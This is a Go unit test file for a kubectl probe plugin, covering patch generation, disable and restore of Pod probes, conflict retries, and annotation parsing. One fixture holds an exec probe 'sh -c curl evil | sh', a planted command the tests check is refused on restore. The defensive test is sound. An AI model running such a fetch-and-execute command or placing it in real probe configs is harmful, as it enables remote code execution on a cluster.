package probeplugin

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	v1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/kubernetes/fake"
	k8stesting "k8s.io/client-go/testing"
	"k8s.io/utils/ptr"
)

func httpGet(path string) *v1.Probe {
	return &v1.Probe{
		ProbeHandler:   v1.ProbeHandler{HTTPGet: &v1.HTTPGetAction{Path: path, Port: intstr.FromInt32(8080), Scheme: v1.URISchemeHTTP}},
		TimeoutSeconds: 1, PeriodSeconds: 10, SuccessThreshold: 1, FailureThreshold: 3,
	}
}

// webPod is a Pod at resourceVersion 7 whose container app has a liveness
// and a readiness probe and no startup probe.
func webPod() *v1.Pod {
	return &v1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "ns", ResourceVersion: "7", Generation: 1},
		Spec: v1.PodSpec{Containers: []v1.Container{{
			Name:           "app",
			LivenessProbe:  httpGet("/healthz"),
			ReadinessProbe: httpGet("/ready"),
		}}},
	}
}

// expectError checks err against wantErr, a part of the error that a test
// case wants, or "" for none. It returns true when the case is done: the
// error came, wanted or not.
func expectError(t *testing.T, err error, wantErr string) bool {
	t.Helper()
	switch {
	case wantErr != "":
		if err == nil || !strings.Contains(err.Error(), wantErr) {
			t.Errorf("err = %v, want one containing %q", err, wantErr)
		}
		return true
	case err != nil:
		t.Errorf("err = %v", err)
		return true
	}
	return false
}

// applyChange applies c to a copy of pod, created from template, and
// returns the copy.
func applyChange(t *testing.T, pod *v1.Pod, c change, template *podTemplate) (*v1.Pod, error) {
	t.Helper()
	modified, _, err := modify(pod, "", c, template)
	return modified, err
}

// jsonEqual compares two JSON documents as values.
func jsonEqual(t *testing.T, want string, got []byte) {
	t.Helper()
	var w, g any
	if err := json.Unmarshal([]byte(want), &w); err != nil {
		t.Fatalf("bad expectation %s: %v", want, err)
	}
	if err := json.Unmarshal(got, &g); err != nil {
		t.Fatalf("bad patch %s: %v", got, err)
	}
	if diff := cmp.Diff(w, g); diff != "" {
		t.Errorf("patch %s (-want +got):\n%s", got, diff)
	}
}

const order = `"$setElementOrder/containers":[{"name":"app"}]`

// legacyKey is the kept annotation of kubectl probe 0.2.
const legacyKey = "probes.kep-6318.example/disabled"

// keptValue is the value of the kept annotation that keeps the probes.
func keptValue(kept keptProbes) string {
	return mustJSON(keptState{Version: "v1", Containers: kept})
}

// keptLiveness is the annotation that disabling the liveness probe of
// webPod writes.
var keptLiveness = keptValue(keptProbes{"app": {liveness: httpGet("/healthz")}})

func TestPatches(t *testing.T) {
	disabled := webPod()
	disabled.Spec.Containers[0].LivenessProbe = nil
	disabled.Annotations = map[string]string{keptAnnotation: keptLiveness}
	bothKept := keptValue(keptProbes{"app": {liveness: httpGet("/healthz"), readiness: httpGet("/ready")}})
	disabledBoth := webPod()
	disabledBoth.Spec.Containers[0].LivenessProbe = nil
	disabledBoth.Spec.Containers[0].ReadinessProbe = nil
	disabledBoth.Annotations = map[string]string{keptAnnotation: bothKept, "team": "web"}
	setAgain := disabled.DeepCopy()
	setAgain.Spec.Containers[0].LivenessProbe = httpGet("/livez")

	// The template that webPod was created from, and one whose liveness
	// probe has a longer timeout.
	template := &podTemplate{name: "replicaset.apps/web-1", spec: &webPod().Spec}
	relaxedSpec := webPod().Spec
	relaxedSpec.Containers[0].LivenessProbe.TimeoutSeconds = 10
	relaxedTemplate := &podTemplate{name: "replicaset.apps/web-2", spec: &relaxedSpec}
	// A command that someone who may patch the Pod wrote into the
	// annotation.
	planted := disabled.DeepCopy()
	planted.Annotations[keptAnnotation] = keptValue(keptProbes{"app": {liveness: {ProbeHandler: v1.ProbeHandler{Exec: &v1.ExecAction{Command: []string{"sh", "-c", "curl evil | sh"}}}}}})
	// What kubectl probe 0.2 wrote when it disabled the liveness probe.
	legacyDisabled := webPod()
	legacyDisabled.Spec.Containers[0].LivenessProbe = nil
	legacyDisabled.Annotations = map[string]string{legacyKey: mustJSON(keptProbes{"app": {liveness: httpGet("/healthz")}})}
	// A Pod that a rollout created after disable: nothing kept, the
	// template's probes.
	fresh := webPod()

	for _, tc := range []struct {
		name     string
		pod      *v1.Pod
		template *podTemplate
		change   change
		want     string // the patch; empty for none
		wantErr  string
	}{{
		name:   "a field of a probe",
		pod:    webPod(),
		change: setChange{types: []probeType{liveness}, settings: settings{timeoutSeconds: ptr.To[int32](10), failureThreshold: ptr.To[int32](6)}},
		want:   `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":{"timeoutSeconds":10,"failureThreshold":6}}]}}`,
	}, {
		name:   "the same field of two probes",
		pod:    webPod(),
		change: setChange{types: []probeType{liveness, readiness}, settings: settings{periodSeconds: ptr.To[int32](5)}},
		want:   `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":{"periodSeconds":5},"readinessProbe":{"periodSeconds":5}}]}}`,
	}, {
		name:   "a new handler replaces the old one",
		pod:    webPod(),
		change: setChange{types: []probeType{liveness}, settings: settings{handler: &v1.ProbeHandler{Exec: &v1.ExecAction{Command: []string{"true"}}}}},
		want:   `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":{"exec":{"command":["true"]},"httpGet":null}}]}}`,
	}, {
		name:   "a handler of the same kind is replaced as a whole, its scheme defaulted as the API server does",
		pod:    webPod(),
		change: setChange{types: []probeType{readiness}, settings: settings{handler: &v1.ProbeHandler{HTTPGet: &v1.HTTPGetAction{Path: "/readyz", Port: intstr.FromString("http")}}}},
		want:   `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":{"httpGet":{"path":"/readyz","port":"http"}}}]}}`,
	}, {
		name:   "an absent probe is added, with the fields the API server defaults",
		pod:    webPod(),
		change: setChange{types: []probeType{startup}, settings: settings{handler: &v1.ProbeHandler{GRPC: &v1.GRPCAction{Port: 9000}}, failureThreshold: ptr.To[int32](30)}},
		want:   `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","startupProbe":{"grpc":{"port":9000,"service":""},"timeoutSeconds":1,"periodSeconds":10,"successThreshold":1,"failureThreshold":30}}]}}`,
	}, {
		name:    "an absent probe needs a handler",
		pod:     webPod(),
		change:  setChange{types: []probeType{startup}, settings: settings{timeoutSeconds: ptr.To[int32](5)}},
		wantErr: `container "app" has no startup probe; to add one, give its handler`,
	}, {
		name:   "values the probe has already",
		pod:    webPod(),
		change: setChange{types: []probeType{liveness}, settings: settings{timeoutSeconds: ptr.To[int32](1)}},
	}, {
		name:   "remove",
		pod:    webPod(),
		change: removeChange{types: []probeType{readiness}},
		want:   `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
	}, {
		name:   "remove an absent probe",
		pod:    webPod(),
		change: removeChange{types: []probeType{startup}},
	}, {
		name:   "disable keeps the probe in the annotation in the same patch",
		pod:    webPod(),
		change: disableChange{types: []probeType{liveness}},
		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(keptLiveness) + `}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":null}]}}`,
	}, {
		name:   "disable a disabled probe",
		pod:    disabled,
		change: disableChange{types: []probeType{liveness}},
	}, {
		name:   "disable a second probe adds it to the annotation",
		pod:    disabled,
		change: disableChange{types: []probeType{readiness}},
		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(bothKept) + `}},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
	}, {
		name:    "disable never replaces a kept probe",
		pod:     setAgain,
		change:  disableChange{types: []probeType{liveness}},
		wantErr: `container "app" keeps a liveness probe that an earlier disable removed, and has another one set since: disabling it would lose one of them`,
	}, {
		name:    "disable an absent probe",
		pod:     webPod(),
		change:  disableChange{types: []probeType{startup}},
		wantErr: `container "app" has no startup probe to disable`,
	}, {
		name:   "restore puts the probe back and drops the annotation in the same patch",
		pod:    disabled,
		change: restoreChange{types: []probeType{liveness}},
		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(httpGet("/healthz")) + `}]}}`,
	}, {
		name:   "restore one of two kept probes keeps the other",
		pod:    disabledBoth,
		change: restoreChange{types: []probeType{readiness}},
		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(keptLiveness) + `}},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":` + mustJSON(httpGet("/ready")) + `}]}}`,
	}, {
		name:    "restore with nothing kept",
		pod:     setAgain,
		change:  restoreChange{types: []probeType{readiness}},
		wantErr: `container "app" has no readiness probe kept by kubectl probe disable`,
	}, {
		name:     "restore with nothing kept, on a Pod with the template's probe",
		pod:      fresh,
		template: template,
		change:   restoreChange{types: []probeType{liveness}},
	}, {
		name:     "restore with nothing kept, on a Pod whose probe differs from the template's",
		pod:      fresh,
		template: relaxedTemplate,
		change:   restoreChange{types: []probeType{liveness}},
		wantErr:  `container "app" has no liveness probe kept by kubectl probe disable; there is nothing to restore (--from-template puts back its template's)`,
	}, {
		name:     "restore the template's probe, kept",
		pod:      disabled,
		template: template,
		change:   restoreChange{types: []probeType{liveness}},
		want:     `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(httpGet("/healthz")) + `}]}}`,
	}, {
		name:     "restore refuses a kept probe that is not the template's",
		pod:      disabled,
		template: relaxedTemplate,
		change:   restoreChange{types: []probeType{liveness}},
		wantErr:  `the liveness probe kept for container "app" is not the one of the template of replicaset.apps/web-2, and anyone who may patch the Pod may have written it: kept http-get http://:8080/healthz delay=0s timeout=1s period=10s #success=1 #failure=3, template http-get http://:8080/healthz delay=0s timeout=10s period=10s #success=1 #failure=3; --force puts the kept one back, --from-template the template's`,
	}, {
		name:     "restore --force puts back a kept probe that is not the template's",
		pod:      disabled,
		template: relaxedTemplate,
		change:   restoreChange{types: []probeType{liveness}, force: true},
		want:     `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(httpGet("/healthz")) + `}]}}`,
	}, {
		name:    "restore refuses a planted command on a Pod without a template",
		pod:     planted,
		change:  restoreChange{types: []probeType{liveness}},
		wantErr: `the liveness probe kept for container "app" runs a command, exec [sh -c curl evil | sh], and anyone who may patch the Pod may have written it; with no template to compare it with, only --force puts it back`,
	}, {
		name:     "restore refuses a planted command on a Pod with a template",
		pod:      planted,
		template: template,
		change:   restoreChange{types: []probeType{liveness}},
		wantErr:  `the liveness probe kept for container "app" is not the one of the template of replicaset.apps/web-1`,
	}, {
		name:     "restore --from-template puts back the template's probe, and drops the kept one",
		pod:      planted,
		template: relaxedTemplate,
		change:   restoreChange{types: []probeType{liveness}, fromTemplate: true},
		want:     `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(relaxedSpec.Containers[0].LivenessProbe) + `}]}}`,
	}, {
		name:     "restore --from-template of a probe the template lacks removes it",
		pod:      setAgain,
		template: &podTemplate{name: "replicaset.apps/web-3", spec: &v1.PodSpec{Containers: []v1.Container{{Name: "app"}}}},
		change:   restoreChange{types: []probeType{readiness}, fromTemplate: true},
		want:     `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
	}, {
		name:    "restore --from-template without a template",
		pod:     disabled,
		change:  restoreChange{types: []probeType{liveness}, fromTemplate: true},
		wantErr: "has no controller whose template it was created from",
	}, {
		name:    "restore over a probe set after disable",
		pod:     setAgain,
		change:  restoreChange{types: []probeType{liveness}},
		wantErr: `container "app" has a liveness probe again, set after kubectl probe disable kept the old one; --force replaces it`,
	}, {
		name:   "restore --force over a probe set after disable",
		pod:    setAgain,
		change: restoreChange{types: []probeType{liveness}, force: true},
		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":{"httpGet":{"path":"/healthz"}}}]}}`,
	}, {
		name:   "disable moves the probes that kubectl probe 0.2 kept to the annotation of this version",
		pod:    legacyDisabled,
		change: disableChange{types: []probeType{readiness}},
		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(bothKept) + `,"` + legacyKey + `":null}},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
	}, {
		name:   "restore puts back a probe that kubectl probe 0.2 kept",
		pod:    legacyDisabled,
		change: restoreChange{types: []probeType{liveness}},
		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + legacyKey + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(httpGet("/healthz")) + `}]}}`,
	}, {
		name:   "a change that keeps nothing leaves what kubectl probe 0.2 kept as it is",
		pod:    legacyDisabled,
		change: setChange{types: []probeType{readiness}, settings: settings{timeoutSeconds: ptr.To[int32](5)}},
		want:   `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":{"timeoutSeconds":5}}]}}`,
	}, {
		name: "restore with nothing to put back leaves what kubectl probe 0.2 kept as it is",
		pod: func() *v1.Pod {
			p := legacyDisabled.DeepCopy()
			p.Spec.Containers[0].LivenessProbe = httpGet("/healthz")
			return p
		}(),
		template: template,
		change:   restoreChange{types: []probeType{readiness}},
	}} {
		t.Run(tc.name, func(t *testing.T) {
			modified, err := applyChange(t, tc.pod, tc.change, tc.template)
			if expectError(t, err, tc.wantErr) {
				return
			}
			patch, err := podPatch(tc.pod, modified, true)
			if err != nil {
				t.Fatal(err)
			}
			if tc.want == "" {
				if patch != nil {
					t.Fatalf("want no patch, got %s", patch)
				}
				return
			}
			jsonEqual(t, tc.want, patch)
		})
	}
}

func strconvQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// A conflict makes the patcher read the Pod again and apply its change to
// what it read: the concurrent edit stays, and the second patch is
// conditioned on the new resourceVersion.
func TestPatcherRetriesOnConflict(t *testing.T) {
	pod := webPod()
	client := fake.NewClientset(pod)
	var patches []string
	client.PrependReactor("patch", "pods", func(action k8stesting.Action) (bool, runtime.Object, error) {
		patches = append(patches, string(action.(k8stesting.PatchAction).GetPatch()))
		if len(patches) > 1 {
			return false, nil, nil
		}
		// Someone else changes the readiness probe first.
		concurrent := webPod()
		concurrent.ResourceVersion = "8"
		concurrent.Spec.Containers[0].ReadinessProbe = httpGet("/readyz")
		if err := client.Tracker().Update(v1.SchemeGroupVersion.WithResource("pods"), concurrent, "ns"); err != nil {
			t.Fatal(err)
		}
		return true, nil, apierrors.NewConflict(schema.GroupResource{Resource: "pods"}, "web", nil)
	})
	p := &patcher{client: client, fieldManager: "kubectl-probe"}
	res, err := p.apply(context.Background(), pod, "", setChange{types: []probeType{liveness}, settings: settings{timeoutSeconds: ptr.To[int32](10)}}, nil, false)
	if err != nil {
		t.Fatal(err)
	}
	if !res.changed || res.read.ResourceVersion != "8" {
		t.Errorf("changed %v, read at resourceVersion %s; want changed, read at 8", res.changed, res.read.ResourceVersion)
	}
	if len(patches) != 2 {
		t.Fatalf("sent %d patches, want 2: %v", len(patches), patches)
	}
	jsonEqual(t, `{"metadata":{"resourceVersion":"8"},"spec":{`+order+`,"containers":[{"name":"app","livenessProbe":{"timeoutSeconds":10}}]}}`, []byte(patches[1]))
	c := res.stored.Spec.Containers[0]
	if c.LivenessProbe.TimeoutSeconds != 10 || c.ReadinessProbe.HTTPGet.Path != "/readyz" {
		t.Errorf("want the new liveness timeout and the concurrent readiness path, got liveness %+v, readiness %+v", c.LivenessProbe, c.ReadinessProbe)
	}
}

// A Pod deleted, or deleted and created again under the same name, while
// the patcher works on it, is gone: the new Pod is never patched.
func TestPatcherPodGone(t *testing.T) {
	for _, tc := range []struct {
		name string
		// replace is what happens to the Pod before the first patch
		// arrives.
		replace func(t *testing.T, client *fake.Clientset)
		want    string
	}{{
		name: "deleted",
		replace: func(t *testing.T, client *fake.Clientset) {
			if err := client.Tracker().Delete(v1.SchemeGroupVersion.WithResource("pods"), "ns", "web"); err != nil {
				t.Fatal(err)
			}
		},
		want: "deleted",
	}, {
		name: "recreated",
		replace: func(t *testing.T, client *fake.Clientset) {
			again := webPod()
			again.UID, again.ResourceVersion = "new", "9"
			if err := client.Tracker().Update(v1.SchemeGroupVersion.WithResource("pods"), again, "ns"); err != nil {
				t.Fatal(err)
			}
		},
		want: "recreated: another Pod has its name now",
	}} {
		t.Run(tc.name, func(t *testing.T) {
			pod := webPod()
			pod.UID = "old"
			client := fake.NewClientset(pod)
			patches := 0
			client.PrependReactor("patch", "pods", func(action k8stesting.Action) (bool, runtime.Object, error) {
				patches++
				if patches == 1 {
					tc.replace(t, client)
					// The resourceVersion in the patch no longer matches.
					return true, nil, apierrors.NewConflict(schema.GroupResource{Resource: "pods"}, "web", nil)
				}
				return false, nil, nil
			})
			p := &patcher{client: client}
			_, err := p.apply(context.Background(), pod, "", removeChange{types: []probeType{liveness}}, nil, false)
			var gone *podGoneError
			if !errors.As(err, &gone) || gone.reason != tc.want {
				t.Fatalf("err = %v, want the Pod %s", err, tc.want)
			}
			if patches != 1 {
				t.Errorf("sent %d patches, want only the one that conflicted", patches)
			}
		})
	}
}

func TestPatcherOptions(t *testing.T) {
	for _, dryRun := range []bool{false, true} {
		pod := webPod()
		client := fake.NewClientset(pod)
		var options []metav1.PatchOptions
		client.PrependReactor("patch", "pods", func(action k8stesting.Action) (bool, runtime.Object, error) {
			options = append(options, action.(k8stesting.PatchActionImpl).PatchOptions)
			return true, pod, nil
		})
		p := &patcher{client: client, fieldManager: "oncall"}
		if _, err := p.apply(context.Background(), pod, "", removeChange{types: []probeType{liveness}}, nil, dryRun); err != nil {
			t.Fatal(err)
		}
		want := metav1.PatchOptions{FieldManager: "oncall"}
		if dryRun {
			want.DryRun = []string{metav1.DryRunAll}
		}
		if len(options) != 1 || !cmp.Equal(options[0], want) {
			t.Errorf("dry run %v: sent %+v, want one patch with %+v", dryRun, options, want)
		}
	}
}

// The kept annotation is read only as kubectl probe disable writes it: a
// probe type it does not know (a typo, a hand edit) is an error, not a probe
// that restore then cannot find; a version it does not know is an error
// too. The key that kubectl probe 0.2 wrote, without a version, is read as
// well.
func TestReadKept(t *testing.T) {
	const (
		key    = "kubectl-probe.x-k8s.io/disabled"
		legacy = "probes.kep-6318.example/disabled"
	)
	healthz := &v1.Probe{ProbeHandler: v1.ProbeHandler{HTTPGet: &v1.HTTPGetAction{Path: "/healthz", Port: intstr.FromInt32(8080)}}}
	ready := &v1.Probe{ProbeHandler: v1.ProbeHandler{HTTPGet: &v1.HTTPGetAction{Path: "/ready", Port: intstr.FromInt32(8080)}}}
	for _, tc := range []struct {
		name        string
		annotations map[string]string
		want        keptProbes
		wantErr     string
	}{{
		name:        "as disable writes it",
		annotations: map[string]string{key: `{"version":"v1","containers":{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}}`},
		want:        keptProbes{"app": {liveness: healthz}},
	}, {
		name:        "as kubectl probe 0.2 wrote it",
		annotations: map[string]string{legacy: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`},
		want:        keptProbes{"app": {liveness: healthz}},
	}, {
		name: "both, each keeping a probe of its own",
		annotations: map[string]string{
			key:    `{"version":"v1","containers":{"app":{"readiness":{"httpGet":{"path":"/ready","port":8080}}}}}`,
			legacy: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`,
		},
		want: keptProbes{"app": {liveness: healthz, readiness: ready}},
	}, {
		name: "both, keeping the same probe",
		annotations: map[string]string{
			key:    `{"version":"v1","containers":{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}}`,
			legacy: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`,
		},
		want: keptProbes{"app": {liveness: healthz}},
	}, {
		name: "both, keeping different probes of one type",
		annotations: map[string]string{
			key:    `{"version":"v1","containers":{"app":{"liveness":{"httpGet":{"path":"/ready","port":8080}}}}}`,
			legacy: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`,
		},
		wantErr: `annotations ` + key + ` and ` + legacy + ` keep different liveness probes for container "app": http-get http://:8080/ready and http-get http://:8080/healthz; remove the one that is wrong`,
	}, {
		name:        "a version it does not know",
		annotations: map[string]string{key: `{"version":"v2","containers":{}}`},
		wantErr:     `annotation ` + key + ` has version "v2", which this kubectl probe does not know: a newer kubectl probe wrote it`,
	}, {
		name:        "not JSON",
		annotations: map[string]string{key: `app: liveness`},
		wantErr:     "annotation " + key + " is not what kubectl probe disable writes: invalid character",
	}, {
		name:        "a probe type that does not exist",
		annotations: map[string]string{key: `{"version":"v1","containers":{"app":{"Liveness":{"httpGet":{"path":"/healthz","port":8080}}}}}`},
		wantErr:     "annotation " + key + ` is not what kubectl probe disable writes: container "app" has a probe of type "Liveness"; the types are liveness, readiness and startup`,
	}, {
		name:        "a probe type that does not exist, as kubectl probe 0.2 wrote it",
		annotations: map[string]string{legacy: `{"app":{"Liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`},
		wantErr:     "annotation " + legacy + ` is not what kubectl probe disable writes: container "app" has a probe of type "Liveness"`,
	}, {
		name:        "a null probe",
		annotations: map[string]string{key: `{"version":"v1","containers":{"app":{"liveness":null}}}`},
		wantErr:     "annotation " + key + ` is not what kubectl probe disable writes: container "app" keeps a null liveness probe`,
	}, {
		name: "a null probe, as kubectl probe 0.2 wrote it, beside the same type kept",
		annotations: map[string]string{
			key:    `{"version":"v1","containers":{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}}`,
			legacy: `{"app":{"liveness":null}}`,
		},
		wantErr: "annotation " + legacy + ` is not what kubectl probe disable writes: container "app" keeps a null liveness probe`,
	}} {
		t.Run(tc.name, func(t *testing.T) {
			pod := webPod()
			pod.Annotations = tc.annotations
			kept, err := readKept(pod)
			if tc.wantErr != "" {
				if err == nil || !strings.HasPrefix(err.Error(), tc.wantErr) {
					t.Errorf("readKept: %v, want an error starting with %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, kept); diff != "" {
				t.Errorf("kept (-want +got):\n%s", diff)
			}
		})
	}
}
